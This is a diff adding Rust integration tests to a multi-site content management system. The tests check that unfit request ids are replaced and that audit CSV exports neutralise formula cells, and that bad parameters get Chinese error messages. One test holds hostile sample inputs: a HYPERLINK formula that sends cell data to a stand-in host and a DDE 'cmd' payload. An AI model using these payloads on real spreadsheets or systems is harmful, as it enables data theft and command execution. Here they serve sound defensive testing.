@@ -513,7 +513,14 @@ async fn administrators_pages_follow_the_separation_of_duties() {
         .await
         .unwrap();
     assert_eq!(export.status(), 200);
-    assert!(export.text().await.unwrap().starts_with("seq,at,actor"));
+    assert!(
+        export
+            .text()
+            .await
+            .unwrap()
+            .trim_start_matches('\u{feff}')
+            .starts_with("seq,at,actor")
+    );
     let records = t.store.audit_records(500, 0).await.unwrap();
     assert!(
         records
@@ -613,4 +620,162 @@ async fn site_wide_grants_take_no_column_and_no_administrator_removes_another() 
             .iter()
             .any(|r| r.action == "account.disable" && r.outcome == "failure")
     );
+}
+
+/// Issue 18, row 12: a client's `X-Request-Id` went verbatim into the audit log, and the audit
+/// export (like every CSV export) wrote cells that a spreadsheet runs as formulas — the request
+/// id, a rejection reason. Now an unfit request id is replaced by the server's own, and every
+/// exported cell that could start a formula is quoted.
+#[tokio::test]
+async fn exports_run_no_formulas_and_request_ids_are_plain_tokens() {
+    let t = TestApp::spawn().await;
+    let f = t.fixture().await;
+    let jx = f.site(JIAXIAN);
+    let column = f.column(&format!("{JIAXIAN}/xwzx/tzgg"));
+    let editor = t.account("tz-editor", None).await;
+    let reviewer = t.account("tz-reviewer", None).await;
+    t.grant(editor, SiteRole::Editor, jx, Some(column)).await;
+    t.grant(reviewer, SiteRole::Reviewer, jx, None).await;
+    t.account("aud", Some(PlatformRole::AuditAdmin)).await;
+    let ed = t.login("tz-editor").await;
+    let rv = t.login("tz-reviewer").await;
+    let aud = t.login("aud").await;
+
+    let created = ed
+        .post(
+            &format!("/api/v1/columns/{}/articles", column.0),
+            json!({"title": "=1+1 通知", "body_html": "<p>正文</p>"}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.json);
+    let id = created.json["id"].as_i64().unwrap();
+    let r = ed
+        .post(
+            &format!("/api/v1/articles/{id}/transitions"),
+            json!({"action": "submit", "secrecy_confirmed": true}),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.json);
+
+    // A hostile request id is not echoed and not kept; the rejection reason is a formula.
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
+    let reason = "=cmd|' /C calc'!A0";
+    let res = rv
+        .client
+        .post(format!("{}/api/v1/articles/{id}/transitions", rv.base))
+        .header("x-request-id", hostile)
+        .json(&json!({"action": "reject", "reason": reason}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200);
+    let echoed = res.headers()["x-request-id"].to_str().unwrap().to_string();
+    assert_ne!(echoed, hostile);
+    assert!(zhanqun_core::sanitize::request_id_ok(&echoed), "{echoed}");
+    // A plain one is the caller's to choose, and is kept.
+    let res = ed
+        .client
+        .post(format!("{}/api/v1/articles/{id}/transitions", ed.base))
+        .header("x-request-id", "trace-42.a_b")
+        .json(&json!({"action": "submit", "secrecy_confirmed": true}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.headers()["x-request-id"], "trace-42.a_b");
+
+    let records = t.store.audit_records(500, 0).await.unwrap();
+    let reject = records
+        .iter()
+        .find(|r| r.action.ends_with("reject"))
+        .expect("the rejection is audited");
+    assert_eq!(reject.request_id.as_deref(), Some(echoed.as_str()));
+    assert!(
+        records
+            .iter()
+            .any(|r| r.request_id.as_deref() == Some("trace-42.a_b"))
+    );
+
+    let export = aud
+        .client
+        .get(format!("{}/api/v1/audit/export", aud.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(export.status(), 200);
+    let text = export.text().await.unwrap();
+    let mut rows = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let mut found = false;
+    for row in rows.records() {
+        let row = row.unwrap();
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
+                "a cell starts a formula: {cell:?}"
+            );
+            found |= cell == format!("'{reason}");
+        }
+    }
+    assert!(found, "the reason is exported, quoted: {text}");
+    assert!(!text.contains("evil.example"), "{text}");
+}
+
+/// Issue 18, row 18: a bad path or query parameter on the API was answered with axum's English
+/// plain text. Now the API answers in its JSON shape with a stable code and a Chinese message,
+/// and the console with its Chinese error page.
+#[tokio::test]
+async fn bad_path_and_query_parameters_are_answered_in_our_own_words() {
+    let t = TestApp::spawn().await;
+    let f = t.fixture().await;
+    let admin = t.account("jx-admin", None).await;
+    t.grant(admin, SiteRole::SiteAdmin, f.site(JIAXIAN), None)
+        .await;
+    let u = t.login("jx-admin").await;
+    for path in [
+        "/api/v1/articles/abc",
+        "/api/v1/articles/99999999999999999999999",
+        "/api/v1/articles/-1.5/revisions",
+        "/api/v1/stats/sites/x/figures",
+    ] {
+        let r = u.get(path).await;
+        assert_eq!(
+            (r.status, r.code()),
+            (400, "invalid_input"),
+            "{path}: {}",
+            r.json
+        );
+        let message = r.json["message"].as_str().unwrap_or_default();
+        assert!(message.contains("地址中的参数"), "{path}: {message}");
+    }
+    let r = u
+        .post("/api/v1/reprint/deliveries/abc/approve", json!({}))
+        .await;
+    assert_eq!((r.status, r.code()), (400, "invalid_input"), "{}", r.json);
+    let created = u
+        .post(
+            &format!(
+                "/api/v1/columns/{}/articles",
+                f.column(&format!("{JIAXIAN}/xwzx/tzgg")).0
+            ),
+            json!({"title": "通知", "body_html": "<p>正文</p>"}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.json);
+    let id = created.json["id"].as_i64().unwrap();
+    let r = u
+        .get(&format!("/api/v1/articles/{id}/diff?from=one&to=2"))
+        .await;
+    assert_eq!((r.status, r.code()), (400, "invalid_input"), "{}", r.json);
+    let message = r.json["message"].as_str().unwrap_or_default();
+    assert!(
+        message.contains("查询参数有误") && message.contains("from"),
+        "{message}"
+    );
+    // The console: its own error page, in Chinese.
+    let (status, html) = u.page("/sites/abc/media").await;
+    assert_eq!(status, 400);
+    assert!(html.contains("地址中的参数"), "{html}");
 }
